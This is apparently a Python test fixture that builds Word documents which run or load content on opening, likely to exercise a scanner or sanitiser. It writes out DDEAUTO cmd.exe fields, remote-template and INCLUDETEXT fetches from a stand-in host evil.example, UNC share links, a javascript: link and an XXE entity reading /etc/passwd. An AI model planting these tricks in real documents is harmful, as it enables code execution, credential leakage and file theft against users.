"""Word files that load or run something when they are opened."""

import itertools
from collections.abc import Iterator, Mapping

from services.documents.tests.files import OFFICE, PACKAGE, WORD, doc, docx

EVIL = "http://evil.example/a"
BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
INSTRUCTIONS = (
    r"DDEAUTO c:\\windows\\system32\\cmd.exe /k calc",
    r"DDE c:\\windows\\system32\\cmd.exe /k calc",
    r"  ddeauto excel x y",
    rf"INCLUDETEXT {EVIL}.docx",
    rf"INCLUDEPICTURE {EVIL}.png \d",
    rf"IMPORT {EVIL}.png",
    r"LINK Excel.Sheet.8 c:\\a.xls R1C1",
    r"QUOTE 68 68 69 65 85 84 79",
    r"MACROBUTTON Evil click",
    r"EMBED Package",
    r"DATABASE \c DSN=x",
    rf"RD {EVIL}.docx",
)
OTHER_FILES = ("attachedTemplate", "oleObject", "image", "frame", "subDocument", "aFChunk", "hyperlink", "package")
PARTS: Mapping[str, bytes] = {
    "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK\x03\x04",
    "word/afchunk.html": b"<script>alert(1)</script>",
    "word/afchunk.rtf": b"{\\rtf1 x}",
    "customUI/customUI.xml": b'<customUI onLoad="Evil"/>',
    "word/media/a.svg": b"<svg><script/></svg>",
    "word/media/a.exe": b"MZ",
}


def acting_word_files() -> Iterator[tuple[str, bytes, str]]:
    """Kind, content and name."""
    for instruction in INSTRUCTIONS:
        for way, body in _fields(instruction).items():
            yield f"docx: {way} {instruction[:20]}", docx(body=body), "a.docx"
        for wide in (False, True):
            text = f"\x13 {instruction} \x14x\x15".encode("utf-16-le" if wide else "latin-1")
            yield f"doc: {instruction[:20]}{', wide' * wide}", doc(text=text), "a.doc"
    for kind, target in itertools.product(OTHER_FILES, ("http", "share", "file")):
        yield f"docx: {kind} of a {target}", _relating(kind, target), "a.docx"
    for name, content in PARTS.items():
        yield f"docx: {name}", docx({name: content}), "a.docx"
    yield (
        "docx: mail merge",
        docx({"word/settings.xml": _settings("<w:mailMerge><w:query w:val='x'/></w:mailMerge>")}),
        "a.docx",
    )
    yield (
        "docx: entity",
        docx({"word/a.xml": b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"}),
        "a.docx",
    )
    for storage in ("Macros", "ObjectPool", "_VBA_PROJECT_CUR"):
        yield f"doc: {storage}", doc(storage), "a.doc"
    for template in (f"{EVIL}.dotm", "\\\\evil.example\\a.dot", f"{EVIL}.dotx".replace("http", "https")):
        yield f"doc: template {template}", doc(table=template.encode("utf-16-le")), "a.doc"


def _fields(instruction: str) -> dict[str, str]:
    """Ways to write a field."""
    run = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
    whole = run.format(instruction)
    letters = "".join(run.format(letter) for letter in instruction)
    return {
        "simple": f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
        "field": f"<w:p>{BEGIN}{whole}{SEPARATE}<w:r><w:t>x</w:t></w:r>{END}</w:p>",
        "spread": f"<w:p>{BEGIN}{letters}{SEPARATE}{END}</w:p>",
        "over paragraphs": f"<w:p>{BEGIN}</w:p><w:p>{whole}</w:p><w:p>{END}</w:p>",
        "nested": f"<w:p>{BEGIN}{run.format(' PAGE ')}{BEGIN}{whole}{SEPARATE}{END}{SEPARATE}{END}</w:p>",
        "unended": f"<w:p>{BEGIN}{whole}</w:p>",
        "named by another": f"<w:p>{BEGIN}{BEGIN}{run.format(' REF evil ')}{SEPARATE}{whole}{END}{END}</w:p>",
    }


def _settings(content: str) -> bytes:
    return f'<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}">{content}</w:settings>'.encode()


def _relating(kind: str, target: str) -> bytes:
    address = {"http": EVIL, "share": "\\\\evil.example\\a", "file": "file:///c:/a"}[target]
    if kind == "hyperlink" and target == "http":
        address = "javascript:alert(1)"
    relation = f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{address}" TargetMode="External"/>'
    relations = f'<Relationships xmlns="{PACKAGE}/relationships">{relation}</Relationships>'.encode()
    if kind == "attachedTemplate":
        settings = _settings('<w:attachedTemplate r:id="rId1"/>')
        return docx({"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations})
    return docx({"word/_rels/document.xml.rels": relations}, body='<w:p><w:r r:id="rId1"/></w:p>')
